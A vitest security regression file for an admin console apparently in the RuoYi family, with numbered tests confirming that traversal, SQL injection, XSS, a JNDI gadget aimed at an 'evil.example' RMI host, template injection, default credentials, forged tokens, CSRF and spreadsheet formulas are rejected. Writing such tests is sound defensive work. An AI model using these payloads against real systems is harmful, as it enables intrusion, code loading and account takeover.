import { createHmac } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { storeRole } from '../../src/features/system/role/role.fixture.ts';
import { sampleFiles, uploadBytes } from '../../src/platform/files/files.fixture.ts';
import { addJob, waitForRuns } from '../../src/platform/jobs/jobs.fixture.ts';
import { startScheduler } from '../../src/platform/jobs/scheduler.ts';
import { openTestApp } from '../../src/testing/app.ts';
import { errorText } from '../../src/testing/error-text.ts';
import { addDepartment, addPerson, personPassword } from '../../src/testing/people.ts';
import { type JsonFields, openWorkbook, responseRows } from '../compatibility/family-client.fixture.ts';

/**
 * Known vulnerabilities of the console family, one attack each, numbered as in the conventions. More thorough tests are
 * beside the code.
 */
const t = await openTestApp();
const admin = await t.login();
afterAll(() => t.close());

const rights = ['user', 'role', 'dept'].flatMap((area) =>
  ['list', 'query', 'add', 'edit', 'export'].map((action) => `system:${area}:${action}`),
);
/** Has many permissions in 110 and below. */
let chief: string;
let chiefId: number;
/** A user of department 120. */
let strangerId: number;
let plain: string;
let uploader: string;

beforeAll(async () => {
  await addDepartment(t, 110, 100, [0, 100]);
  await addDepartment(t, 120, 100, [0, 100]);
  chiefId = await addPerson(t, 'chief', [{ permissions: rights, dataScope: '4' }], 110);
  strangerId = await addPerson(t, 'stranger', [], 120);
  await addPerson(t, 'plain', []);
  chief = await t.login('chief', personPassword);
  plain = await t.login('plain', personPassword);
  await addPerson(t, 'uploader', [{ permissions: ['common:file:upload'] }]);
  uploader = await t.login('uploader', personPassword);
});

const request = async (method: string, path: string, token: string, json?: JsonFields) =>
  (await t.send(method, path, { token, ...(json && { json }) })).body;

it('1: the target of a task cannot name a class, and one inserted into the table does not run', async () => {
  const target = "java.lang.Runtime.getRuntime('calc')";
  const job = { jobName: 'x', invokeTarget: target, cronExpression: '0 0 3 * * ?' };
  expect(await request('POST', '/monitor/job', admin, job)).toMatchObject({
    code: 500,
    field: 'invokeTarget',
  });
  const jobId = await addJob(t, 'smuggled', { target, dueIn: 0 });
  const run = await request('PUT', '/monitor/job/run', admin, { jobId, jobGroup: 'DEFAULT' });
  expect(run.code).toBe(500);
  const scheduler = startScheduler(t.app);
  const [log] = await waitForRuns(t, jobId, 1);
  await scheduler.stop();
  expect(log).toMatchObject({ status: '1', error: expect.stringContaining('target') });
});

describe('2: a download', () => {
  it.each(['../../../etc/passwd', '/etc/passwd', '..%2f..%2fpackage.json', 'C:\\boot.ini', '.', '*'])(
    'of %s finds nothing, by whichever endpoint',
    async (name) => {
      const paths = [
        `/common/download?delete=true&fileName=${encodeURIComponent(name)}`,
        ...['', '/common/file/', '/prod-api/common/file/', '/profile/'].map(
          (start) => `/common/download/resource?resource=${encodeURIComponent(start + name)}`,
        ),
      ];
      for (const path of paths) {
        const { body, bytes } = await t.send('GET', path, { token: plain });
        expect([404, 500]).toContain(body.code);
        expect(bytes.toString()).not.toMatch(/root:|workspaces/);
      }
    },
  );

  it('of a file of another user is refused, and does not delete it', async () => {
    const { msg } = await request('GET', '/system/post/export', admin);
    const fetch = `/common/download?fileName=${encodeURIComponent(msg)}&delete=true`;
    expect(await request('GET', fetch, plain)).toMatchObject({ msg: errorText('file.gone') });
    expect((await t.send('GET', fetch, { token: admin })).headers['download-filename']).toBeDefined();
    const { body } = await uploadBytes(t, admin, 'mine.pdf', sampleFiles['pdf'] ?? Buffer.alloc(0));
    const resource = `/common/download/resource?resource=${String(body['fileName'])}`;
    expect(await request('GET', resource, plain)).toMatchObject({
      code: 404,
      msg: errorText('file.not_found'),
    });
    expect((await t.send('GET', resource, { token: admin })).status).toBe(200);
  });
});

it('3: data scope and ancestors in requests are ignored', async () => {
  const seen = async (query: string) =>
    responseRows(await request('GET', `/system/user/list?${query}`, chief));
  const before = (await seen('')).map((row) => row['userName']);
  for (const scope of ['or 1=1', ') or 1=1 --', '1']) {
    const query = `params[dataScope]=${encodeURIComponent(scope)}&dataScope=1`;
    expect((await seen(query)).map((row) => row['userName'])).toEqual(before);
  }
  const injected = { deptId: 110, parentId: 100, deptName: 'd110', orderNum: 1, ancestors: '0) or 1=1 --' };
  expect((await request('PUT', '/system/dept', admin, injected)).code).toBe(200);
  const { rows } = await t.app.pool.query('select ancestors from sys_dept where dept_id = 110');
  expect(rows).toEqual([{ ancestors: [0, 100] }]);
});

it('4: a sort order with SQL is ignored', async () => {
  const ids = async (column: string) =>
    responseRows(
      await request('GET', `/system/user/list?orderByColumn=${encodeURIComponent(column)}`, admin),
    ).map((row) => row['userId']);
  const usual = await ids('');
  for (const column of ['case when password like 0x24 then 1 else 0 end', 'password', 'user_id desc, 1', '1'])
    expect(await ids(column)).toEqual(usual);
});

it('5: no endpoint runs SQL from a request', async () => {
  const sql = encodeURIComponent('create table stolen as select * from sys_user');
  expect((await t.send('POST', `/tool/gen/createTable?sql=${sql}`, { token: admin })).status).toBe(404);
  const { rows } = await t.app.pool.query(`select to_regclass('stolen') as found`);
  expect(rows).toEqual([{ found: null }]);
});

it('6: no endpoint writes generated source code to disk', async () => {
  for (const path of ['/tool/gen/genCode/sys_user', '/tool/gen/batchGenCode?tables=sys_user'])
    expect((await t.send('GET', path, { token: admin })).status).toBe(404);
});

it('7: no default secret of the family is accepted', async () => {
  for (const [username, password] of [
    ['admin', 'admin123'],
    ['ry', 'admin123'],
    ['ruoyi', '123456'],
  ])
    expect((await t.send('POST', '/login', { json: { username, password } })).body.code).toBe(500);
  await request('PUT', '/monitor/logininfor/unlock/admin', admin);
  const part = (value: object) => Buffer.from(JSON.stringify(value)).toString('base64url');
  const unsigned = `${part({ alg: 'HS512' })}.${part({ sub: 'admin', login_user_key: '1' })}`;
  const signature = createHmac('sha512', 'abcdefghijklmnopqrstuvwxyz').update(unsigned).digest('base64url');
  expect((await request('GET', '/getInfo', `${unsigned}.${signature}`)).code).toBe(401);
  for (const known of ['admin123', '123456', 'ruoyi123'])
    expect(
      await request('PUT', '/system/user/resetPwd', admin, { userId: strangerId, password: known }),
    ).toEqual({
      code: 500,
      field: 'password',
      msg: errorText('password.common'),
    });
});

it('8: the API description needs a permission, and loads no other document', async () => {
  expect((await t.send('GET', '/v3/api-docs')).body.code).toBe(401);
  expect((await request('GET', '/v3/api-docs', plain)).code).toBe(403);
  const page = await t.send('GET', '/swagger-ui/index.html?configUrl=https://evil.example/x.json');
  expect([page.status, page.bytes.includes('evil')]).toEqual([200, false]);
});

describe('9: texts and files with scripts', () => {
  const script = '<img src=x onerror=alert(1)>';

  it('are rejected in titles, sanitised in notices, and plain text elsewhere', async () => {
    const notice = { noticeTitle: script, noticeType: '1', noticeContent: `<p>a</p>${script}` };
    expect(await request('POST', '/system/notice', admin, notice)).toMatchObject({ field: 'noticeTitle' });
    await request('POST', '/system/notice', admin, { ...notice, noticeTitle: 'plain', remark: script });
    const [row] = responseRows(await request('GET', '/system/notice/list', admin));
    expect(row).toMatchObject({ noticeTitle: 'plain', noticeContent: '<p>a</p>', remark: script });
    const response = await t.send('GET', '/system/notice/list', { token: admin });
    expect(response.headers).toMatchObject({
      'content-type': 'application/json; charset=utf-8',
      'x-content-type-options': 'nosniff',
    });
  });

  it.each(['page.html', 'page.htm', 'page.svg', 'page.png', 'page.pdf', 'page.txt'])(
    'are not taken in as %s',
    async (name) => {
      const { body } = await uploadBytes(
        t,
        uploader,
        name,
        Buffer.from(`<html><script>alert(1)</script></html>`),
      );
      expect(body.code).toBe(500);
    },
  );

  it('do not run if an uploaded file is opened', async () => {
    const { body } = await uploadBytes(t, uploader, 'a.pdf', sampleFiles['pdf'] ?? Buffer.alloc(0));
    const { headers } = await t.send('GET', String(body['fileName']), { token: uploader });
    expect(headers['content-disposition']).toMatch(/^attachment/);
    expect(headers['content-security-policy']).toBe("default-src 'none'; sandbox");
  });
});

it('10: the profile cannot take over another account', async () => {
  const body = {
    nickName: 'x',
    userId: 1,
    userName: 'admin',
    password: 'Mine-now-1',
    deptId: 100,
    roleIds: [1],
  };
  expect((await request('PUT', '/system/user/profile', plain, body)).code).toBe(200);
  expect(await t.login()).toBeTruthy();
  expect(await request('GET', '/getInfo', plain)).toMatchObject({ user: { userName: 'plain' }, roles: [] });
});

it('11: ids of roles, departments and users outside the data scope, and permissions not held, are rejected', async () => {
  const own = await storeRole(t, 'own', { ownerId: chiefId });
  const strong = await storeRole(t, 'strong', { dataScope: '1', ownerId: chiefId });
  for (const [method, path, json] of [
    ['GET', `/system/user/${strangerId}`],
    ['GET', `/system/user/authRole/${strangerId}`],
    ['PUT', '/system/role/dataScope', { roleId: own, dataScope: '2', deptIds: [120] }],
    ['PUT', '/system/role/dataScope', { roleId: own, dataScope: '1' }],
    ['PUT', `/system/role/authUser/selectAll?roleId=${own}&userIds=${strangerId}`],
    ['PUT', `/system/role/authUser/cancelAll?roleId=${own}&userIds=${strangerId}`],
    ['PUT', '/system/role/authUser/cancel', { roleId: own, userId: strangerId }],
    ['PUT', `/system/role/authUser/selectAll?roleId=${strong}&userIds=${chiefId}`],
    ['PUT', '/system/role', { roleId: own, roleName: 'own', roleKey: 'own', roleSort: 1, menuIds: [1053] }],
    ['PUT', `/system/user/authRole?userId=${chiefId}&roleIds=1`],
  ] as [string, string, JsonFields?][])
    expect((await request(method, path, chief, json)).code, `${method} ${path}`).not.toBe(200);
});

it('12: a disabled role loses its permissions at the next request, and users without a role see nothing', async () => {
  await addPerson(t, 'shift', [{ permissions: ['system:user:list'], dataScope: '1' }]);
  const shift = await t.login('shift', personPassword);
  expect((await request('GET', '/system/user/list', shift)).code).toBe(200);
  const { rows } = await t.app.pool.query(`select role_id from sys_role where role_name = 'role of shift'`);
  await request('PUT', '/system/role/changeStatus', admin, { roleId: rows[0].role_id, status: '1' });
  expect((await request('GET', '/system/user/list', shift)).code).toBe(403);
  expect((await request('GET', '/system/user/list', plain)).code).toBe(403);
});

it('13: the built-in roles can change no settings and log out no users', async () => {
  for (const roleId of [2, 3]) {
    const userId = await addPerson(t, `newcomer ${roleId}`, []);
    await t.app.pool.query('insert into sys_user_role values ($1, $2)', [userId, roleId]);
    const token = await t.login(`newcomer ${roleId}`, personPassword);
    const changing = t.app.endpoints.filter(
      ({ method, access, path }) =>
        method !== 'GET' &&
        typeof access === 'object' &&
        /^\/(system|monitor|log|tool)\//.test(path) &&
        !path.includes('xport'),
    );
    expect(changing.length).toBeGreaterThan(40);
    for (const { method, path } of changing) {
      const { code } = await request(method, path.replace(/:\w+/g, '1'), token, {});
      expect(code, `${method} ${path}`).toBe(403);
    }
  }
});

it('14: guesses lock the account and the address, and an administrator can unlock them', async () => {
  const guess = async (username: string, password: string, remoteAddress: string) =>
    (await t.send('POST', '/login', { json: { username, password }, remoteAddress })).body.msg;
  const locked = errorText('auth.user_locked', { count: 5, minutes: 10 });
  for (let count = 0; count < 4; count++) await guess('stranger', 'no', '10.9.0.9');
  expect(await guess('stranger', 'no', '10.9.0.9')).toBe(locked);
  expect(await guess('stranger', personPassword, '10.9.0.9')).toBe(locked);
  await request('PUT', '/monitor/logininfor/unlock/stranger', admin);
  expect(await t.login('stranger', personPassword)).toBeTruthy();
  // Twenty-nine more failures from one address.
  await t.app.pool.query(
    `insert into login_failure (kind, address, failed_at, expires_at)
     values ('address', '10.9.1.1', array_fill($1::float8, array[29]), limpid_now() + interval '9 minutes')`,
    [t.clock.now().getTime()],
  );
  await guess('nobody', 'no', '10.9.1.1');
  expect(await guess('plain', personPassword, '10.9.1.1')).toBe(
    errorText('auth.address_locked', { minutes: 10 }),
  );
  // Unlocking a screen has the same limits.
  for (let count = 0; count < 5; count++) await request('POST', '/unlockscreen', plain, { password: 'no' });
  expect((await request('POST', '/unlockscreen', plain, { password: personPassword })).msg).toBe(locked);
  await request('PUT', '/monitor/logininfor/unlock/plain', admin);
});

it('15: a page of another site cannot use the session of its visitor', async () => {
  const json = { postCode: 'forged', postName: 'forged', postSort: 1 };
  const headers = { cookie: `Admin-Token=${admin}`, origin: 'https://evil.example' };
  expect((await t.send('POST', '/system/post', { json, headers })).body.code).toBe(401);
  const form = { ...headers, 'content-type': 'application/x-www-form-urlencoded' };
  const payload = 'postCode=forged&postName=forged&postSort=1';
  expect((await t.send('POST', '/system/post', { payload, headers: form })).body.code).toBe(401);
});

it('16: no class is instantiated from a request', async () => {
  const headers = { 'content-type': 'application/x-java-serialized-object' };
  const serialised = await t.send('POST', '/system/post', { token: admin, payload: 'rO0ABQ==', headers });
  expect(serialised.body.code).toBe(415);
  const typed = {
    '@type': 'com.sun.rowset.JdbcRowSetImpl',
    dataSourceName: 'rmi://evil.example/x',
    autoCommit: true,
    constructor: { prototype: { isAdmin: true } },
    postCode: 'typed',
    postName: 'typed',
    postSort: 1,
  };
  expect((await request('POST', '/system/post', admin, typed)).code).toBe(200);
  expect(({} as JsonFields)['isAdmin']).toBeUndefined();
  const [row] = responseRows(await request('GET', '/system/post/list?postCode=typed', admin));
  expect(Object.keys(row ?? {})).not.toContain('@type');
});

it('17: logs contain no password, sheets no formula, and addresses are not sent to third parties', async () => {
  await request('PUT', '/system/user/resetPwd', admin, { userId: strangerId, password: 'Secret-word-9' });
  await request('POST', '/unlockscreen', plain, { password: 'Secret-word-9' });
  await Promise.all(t.app.background);
  const { rows } = await t.app.pool.query('select l::text as line from sys_oper_log l');
  expect(rows.map(({ line }) => line).join('\n')).not.toContain('Secret-word-9');
  const formula = '=HYPERLINK("https://evil.example","x")';
  await request('POST', '/system/post', admin, { postCode: 'formula', postName: formula, postSort: 1 });
  const sheet = await t.send('POST', '/system/post/export?postCode=formula', {
    token: admin,
    json: { postCode: 'formula' },
  });
  const [cells] = openWorkbook(sheet.bytes).rows;
  expect(Object.values(cells ?? {}).some((cell) => String(cell).startsWith('='))).toBe(false);
  expect(sheet.headers['referrer-policy']).toBe('same-origin');
});

it('18: pages of other origins cannot read responses', async () => {
  const headers = { origin: 'https://evil.example', 'access-control-request-method': 'DELETE' };
  for (const [method, path] of [
    ['GET', '/getInfo'],
    ['GET', '/captchaImage'],
    ['OPTIONS', '/system/post/1'],
    ['OPTIONS', '/login'],
  ] as const) {
    const response = await t.send(method, path, { token: admin, headers });
    const allowing = Object.keys(response.headers).filter((name) => name.startsWith('access-control-allow'));
    expect([method, path, allowing]).toEqual([method, path, []]);
    if (method === 'OPTIONS') expect(response.status).toBe(404);
  }
});

it('19: sessions and captchas are never shown, and unlocking needs its own permission', async () => {
  for (const path of ['/monitor/cache/getNames', '/monitor/cache/getKeys/login_tokens:'])
    expect((await t.send('GET', path, { token: admin })).status).toBe(404);
  const list = await t.send('GET', '/monitor/online/list', { token: admin });
  for (const token of [admin, chief, plain]) expect(list.bytes.toString()).not.toContain(token);
  for (const method of ['GET', 'PUT'])
    expect((await request(method, '/monitor/logininfor/unlock/admin', chief)).code).toBe(403);
});

it('20: texts of users are never evaluated as templates', async () => {
  for (const text of ['{{name}}', '${7*7}', '__${T(java.lang.Runtime).getRuntime()}__::.x', '<%= 7*7 %>']) {
    const post = { postCode: text, postName: text, postSort: 1 };
    await request('POST', '/system/post', admin, post);
    const [row] = responseRows(
      await request('GET', `/system/post/list?postCode=${encodeURIComponent(text)}`, admin),
    );
    expect(row).toMatchObject({ postCode: text, postName: text });
    await t.app.pool.query('insert into sys_user_post values ($1, $2)', [strangerId, row?.['postId']]);
    const { msg } = await request('DELETE', `/system/post/${String(row?.['postId'])}`, admin);
    expect(msg).toContain(text);
  }
});

it('21: tasks cannot be read by id without the permission', async () => {
  const { rows } = await t.app.pool.query('select min(job_id) as id from sys_job');
  for (const [method, path] of [
    ['GET', `/monitor/job/${rows[0].id}`],
    ['PUT', '/monitor/job/run'],
    ['PUT', '/monitor/job/changeStatus'],
    ['DELETE', `/monitor/job/${rows[0].id}`],
    ['GET', '/monitor/jobLog/1'],
  ] as const)
    expect(
      (await request(method, path, chief, method === 'GET' ? undefined : { jobId: rows[0].id })).code,
    ).toBe(403);
});
